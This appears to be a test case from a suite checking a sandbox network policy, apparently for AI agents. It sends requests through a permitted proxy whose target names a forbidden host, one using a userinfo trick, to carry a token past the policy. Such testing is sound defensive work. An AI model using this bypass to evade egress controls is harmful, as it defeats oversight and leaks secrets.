// technique: names another host in the target than in Host
// source: RFC 9112, section 3.2.2; Traps, awf#543; OpenShell e2e forward_proxy_l7_bypass
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
// event: HttpRequest
import { ALLOWED, FORBIDDEN, get, say, TOKEN } from './wire.mjs';

for (const request of [
  get(`http://${FORBIDDEN}/public/${TOKEN}`),
  get(`http://${ALLOWED}@${FORBIDDEN}/public/${TOKEN}`),
])
  await say(process.env.ALLOWED_HTTP, [request]);
